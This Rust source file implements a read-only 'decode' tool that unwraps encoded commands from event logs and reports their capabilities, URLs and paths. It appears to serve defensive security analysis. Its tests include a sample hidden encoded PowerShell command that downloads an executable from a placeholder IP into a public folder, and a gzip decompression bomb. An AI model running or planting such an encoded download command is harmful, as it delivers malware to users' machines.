//! `decode`: the layers of an encoded command or script, and what its plain text can do.

use async_trait::async_trait;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::answer::{Answer, Header, Row, ToolError};
use super::tool::{Permission, Scope, Tool};
use super::view::EventView;
use crate::domain::taint;
use crate::domain::words::excerpt;
use crate::knowledge::command::{self, Capability};
use crate::knowledge::named;

/// See the module.
pub struct Decode;

/// Longest text that is read, in bytes.
const LONGEST_TEXT: usize = 1_000_000;

/// Characters of each layer that are shown, and that a program is given.
const SHOWN: usize = 900;
const GIVEN: usize = 20_000;

/// Fields of an event in which commands and scripts stand.
const FIELDS: [&str; 7] =
    ["CommandLine", "ScriptBlockText", "ImagePath", "ServiceFileName", "TaskContent", "Details", "ParentCommandLine"];

/// What to decode: a text, or a field of an event.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Arguments {
    /// The text itself.
    #[serde(default)]
    pub text: Option<String>,
    /// An event, by its id.
    #[serde(default)]
    pub event: Option<String>,
    /// The field of its `event_data`; the one that holds a command or script if left out.
    #[serde(default)]
    pub field: Option<String>,
}

/// What a text says, decoded.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reading {
    /// The layers below the text itself, outermost first, the first 20,000 characters of each.
    pub layers: Vec<String>,
    /// What was not decoded to its end, and why.
    #[serde(default)]
    pub refused: Vec<String>,
    /// What it can do, by its words: judged together, never by one.
    pub capabilities: Vec<Capability>,
    /// How many of the system's memory and thread functions it names.
    pub native_calls: usize,
    /// It starts PowerShell hidden and encoded.
    pub launched_hidden: bool,
    /// Addresses on the web in any layer.
    pub urls: Vec<String>,
    /// IP addresses in any layer.
    pub addresses: Vec<String>,
    /// Paths in any layer.
    pub paths: Vec<String>,
}

impl Reading {
    /// The reading as rows.
    pub fn rows(&self) -> impl Iterator<Item = Row> {
        let can: Vec<&str> = self.capabilities.iter().map(|capability| capability.name()).collect();
        let can = if can.is_empty() { "nothing that its words show".into() } else { can.join(", ") };
        let hidden = if self.launched_hidden { "; started hidden" } else { "" };
        let first = Row::said(format!("it can: {can}{hidden}"));
        let names = [("web", &self.urls), ("addresses", &self.addresses), ("paths", &self.paths)];
        let names = names.into_iter().filter(|(_, values)| !values.is_empty()).map(|(name, values)| {
            let shown: Vec<String> = values.iter().take(6).map(|value| taint::shown(value)).collect();
            Row::said(format!("{name}: {}", shown.join(" · ")))
        });
        let layers =
            self.layers.iter().enumerate().map(|(depth, layer)| {
                Row::said(format!("layer {}: {}", depth + 1, excerpt(&taint::shown(layer), SHOWN)))
            });
        let refused = self.refused.iter().map(|what| Row::said(format!("refused: {what}")));
        std::iter::once(first).chain(refused).chain(names).chain(layers).collect::<Vec<_>>().into_iter()
    }
}

/// Reads a text through all its layers.
#[must_use]
pub fn reading(text: &str) -> Reading {
    let command::Reading { layers, capabilities, native_calls, launched_hidden, refused, .. } = command::read(text);
    let all = layers.join("\n");
    Reading {
        capabilities: capabilities.into_iter().collect(),
        native_calls,
        launched_hidden,
        refused,
        urls: named::urls(&all),
        addresses: named::addresses(&all),
        paths: named::paths(&all),
        layers: layers.into_iter().skip(1).map(|layer| layer.chars().take(GIVEN).collect()).collect(),
    }
}

#[async_trait]
impl Tool for Decode {
    const NAME: &'static str = "decode";
    const DESCRIPTION: &'static str = "The plain text of an encoded command or script (base64 in UTF-8 or UTF-16, hexadecimal, a URL's letters, gzip, zlib or deflate inside), layer by layer, with what it can do and the addresses and paths it names. Takes a text, or an event whose command or script it reads. Nothing is run.";
    const PERMISSION: Permission = Permission::Read;
    type Arguments = Arguments;

    async fn call(&self, arguments: Arguments, scope: &Scope) -> Result<Answer, ToolError> {
        let bad = |what: &str| ToolError::BadArguments { tool: Self::NAME.into(), what: what.into() };
        let (text, shown) = match (arguments.text, &arguments.event) {
            (Some(text), None) => (text, None),
            (None, Some(id)) => {
                let event = scope.event(id).await?;
                let field = match &arguments.field {
                    Some(field) => event.data(field.trim_start_matches("winlog.event_data.")),
                    None => FIELDS.iter().find_map(|field| event.data(field)),
                };
                let what = || {
                    format!("{} has no such field with a command or script: name another with `field`", event.kind())
                };
                let text = field.ok_or_else(|| ToolError::NotFound { what: what() })?.to_owned();
                (text, Some(EventView::row(&event, SHOWN)))
            }
            _ => return Err(bad("give `text` or `event`, one of them")),
        };
        if text.len() > LONGEST_TEXT {
            return Err(bad("the text is longer than 1,000,000 bytes: give a part of it"));
        }
        let reading = reading(&text);
        let mut rows: Vec<Row> = shown.map(Row::of).into_iter().collect();
        if reading.layers.is_empty() {
            rows.push(Row::said("nothing encoded was found in it".into()));
        }
        rows.extend(reading.rows());
        let header = Header { total: rows.len() as u64, ..Header::default() };
        let data = serde_json::to_value(reading).unwrap_or_default();
        Ok(Answer { header, rows, cut: 0, data, filing: None })
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    use serde_json::{Value, json};

    use super::*;
    use crate::domain::event::SYSMON;
    use crate::fixtures::{event, store};
    use crate::ports::events::Watermark;

    fn encoded(text: &str) -> String {
        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
    }

    async fn ask(arguments: Value) -> Result<(Answer, Reading), ToolError> {
        let inner = encoded("Invoke-WebRequest http://203.0.113.9/x.exe -OutFile C:\\Users\\Public\\x.exe");
        let data = json!({"CommandLine": format!("powershell.exe -enc {inner}")});
        let (_folder, store) = store(vec![event("e", 0, "WKS-1", (SYSMON, 1), data)]).await;
        let scope = Scope {
            case: crate::fixtures::CASE,
            alerts: Arc::default(),
            events: store,
            watermark: Watermark(u64::MAX),
        };
        let answer = Decode.call(serde_json::from_value(arguments).expect("they fit"), &scope).await?;
        let reading = serde_json::from_value(answer.data.clone()).expect("it is typed");
        Ok((answer, reading))
    }

    #[tokio::test]
    async fn layers_are_read_from_an_event_and_from_a_text() {
        let (answer, reading) = ask(json!({"event": "e"})).await.expect("it answers");
        assert_eq!(reading.layers.len(), 1);
        assert_eq!(reading.capabilities, [Capability::Download]);
        assert_eq!(reading.urls, ["http://203.0.113.9/x.exe"]);
        assert_eq!(reading.addresses, ["203.0.113.9"]);
        assert_eq!(reading.paths, [r"C:\Users\Public\x.exe"]);
        assert!(answer.rows[0].exhibit.is_some(), "the event can be cited");
        let twice = encoded(&format!("powershell -enc {}", encoded("Get-Service | Sort-Object Status")));
        let (_, reading) = ask(json!({"text": twice})).await.expect("it answers");
        assert_eq!(reading.layers.len(), 2);
        assert_eq!(reading.layers[1], "Get-Service | Sort-Object Status");
        let (answer, reading) = ask(json!({"text": "whoami"})).await.expect("it answers");
        assert_eq!((reading, answer.rows[0].text.as_str()), (Reading::default(), "nothing encoded was found in it"));
    }

    #[tokio::test]
    async fn a_bomb_is_refused_in_a_clear_word() {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        let mut text = b"Get-Service ".to_vec();
        text.resize(4 << 20, b' ');
        std::io::Write::write_all(&mut gzip, &text).expect("it is packed");
        let (answer, reading) =
            ask(json!({"text": STANDARD.encode(gzip.finish().expect("whole"))})).await.expect("it answers");
        assert_eq!(reading.refused.len(), 1);
        let told = answer.rows.iter().any(|row| row.text.starts_with("refused: ") && row.text.contains("bomb"));
        assert!(told, "{:?}", answer.rows);
    }

    #[tokio::test]
    async fn a_question_for_nothing_is_refused_with_the_remedy() {
        for (asked, words) in [
            (json!({}), "give `text` or `event`"),
            (json!({"text": "a", "event": "e"}), "one of them"),
            (json!({"text": "a".repeat(1_000_001)}), "give a part of it"),
            (json!({"event": "e", "field": "Nope"}), "name another with `field`"),
        ] {
            let refused = ask(asked).await.expect_err("it is refused").to_string();
            assert!(refused.contains(words), "{refused}");
        }
    }
}
